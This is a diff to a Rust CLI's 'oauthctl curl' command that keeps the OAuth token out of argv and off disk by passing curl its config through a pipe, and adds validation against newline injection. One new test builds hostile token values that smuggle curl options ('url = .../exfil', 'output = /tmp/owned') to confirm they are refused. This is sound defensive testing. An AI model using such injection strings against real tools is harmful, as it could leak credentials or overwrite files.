@@ -1,12 +1,15 @@
-//! `oauthctl curl`: runs the system curl with the token in a 0600 config file
-//! (`curl -K`), so it never shows up in curl's argv (`ps`, /proc/PID/cmdline).
+//! `oauthctl curl`: runs the system curl with the token in a config that it
+//! reads from a pipe (`curl -K /dev/fd/N`), so the token is never in curl's
+//! argv (`ps`, /proc/PID/cmdline) and never on disk. The pipe, not `-K -`,
+//! because curl's stdin stays the user's (`-d @-`, `-T -`).
 
 use super::Ctx;
 use super::engine::{self, Slot};
 use crate::cli::{CurlArgs, TokenIn};
 use crate::error::usage;
-use crate::oauth::response::normalize_token_type;
+use crate::oauth::response::{check_access_token, normalize_token_type};
 use crate::settings::Profile;
+use crate::signals::Forwarding;
 use crate::store::TokenSet;
 use anyhow::{Context, Result};
 use std::io::Write;
@@ -32,6 +35,14 @@ pub fn run(ctx: &Ctx, args: &CurlArgs) -> Result<CurlExit> {
     let min_ttl = args.min_ttl.or(profile.min_ttl).unwrap_or(60);
     let set = engine::fresh_token(ctx, &profile, &slot, min_ttl)?;
     let workdir = private_workdir()?;
+    // SIGINT, SIGTERM and SIGHUP go to curl, and oauthctl waits for it; one
+    // that arrives while no curl runs removes the work dir first.
+    let signals = {
+        let path = workdir.path().to_owned();
+        Forwarding::start(move || {
+            let _ = std::fs::remove_dir_all(&path);
+        })?
+    };
 
     let replayable = is_replayable(&args.args);
     let first = invoke(
@@ -41,14 +52,26 @@ pub fn run(ctx: &Ctx, args: &CurlArgs) -> Result<CurlExit> {
         token_in,
         workdir.path(),
         replayable,
+        &signals,
     )?;
+    if signals.received().is_some() {
+        return Ok(CurlExit(exit_code(first.status)));
+    }
     if let Some(captured) = &first.captured {
         if rejected_token(&captured.headers) {
             ctx.note(
                 "The API rejected the token (invalid_token): refreshing it and retrying once.",
             );
             let renewed = engine::force_renew(ctx, &profile, &slot, false)?;
-            let second = invoke(&curl, &args.args, &renewed, token_in, workdir.path(), false)?;
+            let second = invoke(
+                &curl,
+                &args.args,
+                &renewed,
+                token_in,
+                workdir.path(),
+                false,
+                &signals,
+            )?;
             return Ok(CurlExit(exit_code(second.status)));
         }
         copy_to_stdout(&captured.body)?;
@@ -75,31 +98,87 @@ fn invoke(
     token_in: TokenIn,
     workdir: &Path,
     capture: bool,
+    signals: &Forwarding,
 ) -> Result<Invocation> {
     let (config, args) = curl_config(user_args, set, token_in)?;
-    let config_path = workdir.join("curl.config");
-    write_private(&config_path, config.as_bytes())?;
     let mut command = Command::new(curl);
-    command.arg("-K").arg(&config_path).args(&args);
+    let pipe = ConfigPipe::attach(&mut command, &args)?;
+    command.args(&args);
     let captured = capture.then(|| Captured {
         headers: workdir.join("headers"),
         body: workdir.join("body"),
     });
     if let Some(captured) = &captured {
         // Our -D and -o come first so that the user's own -o/-D still win.
-        let body = std::fs::File::create(&captured.body)
-            .context("cannot create a temp file for curl's output")?;
+        let body = create_private(&captured.body)?;
         command
             .arg("-D")
             .arg(&captured.headers)
             .stdout(Stdio::from(body));
     }
-    let status = command
-        .status()
+    let mut child = command
+        .spawn()
         .with_context(|| format!("cannot run {}", curl.display()))?;
-    // The token must not outlive the request on disk.
-    let _ = std::fs::remove_file(&config_path);
+    signals.set_child(Some(child.id()));
+    pipe.send(config.as_bytes());
+    let status = child.wait();
+    signals.set_child(None);
+    let status = status.with_context(|| format!("cannot wait for {}", curl.display()))?;
     Ok(Invocation { status, captured })
+}
+
+/// The write end of the pipe curl reads its config from.
+struct ConfigPipe {
+    writer: Option<std::io::PipeWriter>,
+    #[cfg(unix)]
+    reader: Option<std::io::PipeReader>,
+}
+
+impl ConfigPipe {
+    /// Adds `-K /dev/fd/N` to `command`, N being a pipe curl inherits. On
+    /// Windows, where there is no /dev/fd, curl reads the config from stdin
+    /// (`-K -`), so a request that needs stdin itself is refused.
+    fn attach(command: &mut Command, user_args: &[String]) -> Result<ConfigPipe> {
+        let (reader, writer) = std::io::pipe().context("cannot create a pipe for curl's config")?;
+        #[cfg(unix)]
+        {
+            use std::os::fd::AsRawFd;
+            let _ = user_args;
+            // std makes pipes close-on-exec; this one end must reach curl.
+            // oauthctl starts no other process meanwhile, so it reaches no other.
+            rustix::io::fcntl_setfd(&reader, rustix::io::FdFlags::empty())
+                .context("cannot hand the config pipe to curl")?;
+            command
+                .arg("-K")
+                .arg(format!("/dev/fd/{}", reader.as_raw_fd()));
+            Ok(ConfigPipe {
+                writer: Some(writer),
+                reader: Some(reader),
+            })
+        }
+        #[cfg(not(unix))]
+        {
+            if reads_stdin(user_args) {
+                return Err(usage(
+                    "on Windows curl reads oauthctl's config from stdin, so the request cannot read stdin too: use -d @FILE",
+                ));
+            }
+            command.arg("-K").arg("-").stdin(Stdio::from(reader));
+            Ok(ConfigPipe {
+                writer: Some(writer),
+            })
+        }
+    }
+
+    /// Writes the config and closes the pipe, so curl reads it to the end.
+    /// A curl that exited before reading it says so in its own exit code.
+    fn send(mut self, config: &[u8]) {
+        #[cfg(unix)]
+        drop(self.reader.take());
+        if let Some(mut writer) = self.writer.take() {
+            let _ = writer.write_all(config);
+        }
+    }
 }
 
 /// The curl config carrying the token, and the argv without any URL that
@@ -110,12 +189,17 @@ fn curl_config(
     token_in: TokenIn,
 ) -> Result<(String, Vec<String>)> {
     let token = set.access_token.expose();
+    let token_type = normalize_token_type(set.token_type.as_deref());
+    // Checked when parsed; checked again here because a curl config line
+    // with a newline in it is a new curl option.
+    check_access_token(&token_type, token).map_err(|what| {
+        anyhow::anyhow!(
+            "the stored token set holds {what}: refusing to hand it to curl; run `oauthctl logout`, then log in again"
+        )
+    })?;
     match token_in {
         TokenIn::Header => {
-            let header = format!(
-                "Authorization: {} {token}",
-                normalize_token_type(set.token_type.as_deref())
-            );
+            let header = format!("Authorization: {token_type} {token}");
             Ok((
                 format!("header = \"{}\"\n", quote(&header)),
                 user_args.to_vec(),
@@ -169,6 +253,14 @@ fn quote(value: &str) -> String {
 /// A request whose body comes from stdin, or that already dumps headers
 /// itself, cannot be replayed after a 401.
 fn is_replayable(args: &[String]) -> bool {
+    !reads_stdin(args)
+        && !args.iter().any(|arg| {
+            matches!(arg.as_str(), "-D" | "--dump-header" | "-N" | "--no-buffer")
+                || arg.starts_with("--dump-header=")
+        })
+}
+
+fn reads_stdin(args: &[String]) -> bool {
     let mut previous = "";
     for arg in args {
         if arg.contains("@-")
@@ -177,14 +269,12 @@ fn is_replayable(args: &[String]) -> bool {
                     previous,
                     "-T" | "--upload-file" | "-d" | "--data" | "--data-binary" | "-F" | "--form"
                 ))
-            || matches!(arg.as_str(), "-D" | "--dump-header" | "-N" | "--no-buffer")
-            || arg.starts_with("--dump-header=")
         {
-            return false;
+            return true;
         }
         previous = arg;
     }
-    true
+    false
 }
 
 /// The last response in a curl header dump was a 401 whose
@@ -246,19 +336,27 @@ fn find_curl() -> Result<PathBuf> {
         .ok_or_else(|| anyhow::anyhow!("curl is not installed or not on PATH: install curl, or use `oauthctl token -o header`"))
 }
 
-/// A 0700 temp dir, removed on drop: in $XDG_RUNTIME_DIR (tmpfs, per user) when there is one.
+/// A 0700 temp dir for curl's captured response, removed on drop (and by
+/// the signal handler): in $XDG_RUNTIME_DIR (tmpfs, per user) when there is one.
 fn private_workdir() -> Result<tempfile::TempDir> {
     let base = std::env::var_os("XDG_RUNTIME_DIR")
         .map(PathBuf::from)
         .filter(|p| p.is_dir())
         .unwrap_or_else(std::env::temp_dir);
-    tempfile::Builder::new()
-        .prefix("oauthctl-curl-")
+    let mut builder = tempfile::Builder::new();
+    builder.prefix("oauthctl-curl-");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        builder.permissions(std::fs::Permissions::from_mode(0o700));
+    }
+    builder
         .tempdir_in(&base)
         .with_context(|| format!("cannot create a private temp dir in {}", base.display()))
 }
 
-fn write_private(path: &Path, bytes: &[u8]) -> Result<()> {
+/// A new 0600 file: a response body may be as private as the token.
+fn create_private(path: &Path) -> Result<std::fs::File> {
     let mut options = std::fs::OpenOptions::new();
     options.write(true).create_new(true);
     #[cfg(unix)]
@@ -266,11 +364,9 @@ fn write_private(path: &Path, bytes: &[u8]) -> Result<()> {
         use std::os::unix::fs::OpenOptionsExt;
         options.mode(0o600);
     }
-    let mut file = options
+    options
         .open(path)
-        .with_context(|| format!("cannot create {}", path.display()))?;
-    file.write_all(bytes)?;
-    Ok(())
+        .with_context(|| format!("cannot create {}", path.display()))
 }
 
 #[cfg(test)]
@@ -280,7 +376,7 @@ mod tests {
 
     fn set() -> TokenSet {
         TokenSet {
-            access_token: Secret::new("tok\"en"),
+            access_token: Secret::new("tok+en/="),
             token_type: Some("BearerToken".into()),
             refresh_token: None,
             id_token: None,
@@ -295,7 +391,7 @@ mod tests {
     fn header_mode_keeps_argv_and_quotes() {
         let args = vec!["-sS".to_owned(), "https://api.example/x".to_owned()];
         let (config, argv) = curl_config(&args, &set(), TokenIn::Header).unwrap();
-        assert_eq!(config, "header = \"Authorization: Bearer tok\\\"en\"\n");
+        assert_eq!(config, "header = \"Authorization: Bearer tok+en/=\"\n");
         assert_eq!(argv, args);
     }
 
@@ -313,11 +409,21 @@ mod tests {
         let (config, argv) = curl_config(&args, &set(), TokenIn::Query).unwrap();
         assert_eq!(argv, vec!["-s"]);
         assert!(
-            config.contains("url = \"https://api.example/x?a=1&access_token=tok%22en\""),
+            config.contains("url = \"https://api.example/x?a=1&access_token=tok%2Ben%2F%3D\""),
             "{config}"
         );
         assert!(config.contains("http://127.0.0.1:1/y?access_token="));
         assert!(curl_config(&["-s".to_owned()], &set(), TokenIn::Query).is_err());
+    }
+
+    #[test]
+    fn a_token_that_could_inject_curl_options_is_never_written() {
+        let mut hostile = set();
+        hostile.token_type = Some("Bearer X\nurl = http://127.0.0.2/exfil\n#".into());
+        assert!(curl_config(&[], &hostile, TokenIn::Header).is_err());
+        let mut hostile = set();
+        hostile.access_token = Secret::new("t\noutput = /tmp/owned");
+        assert!(curl_config(&[], &hostile, TokenIn::Header).is_err());
     }
 
     #[test]
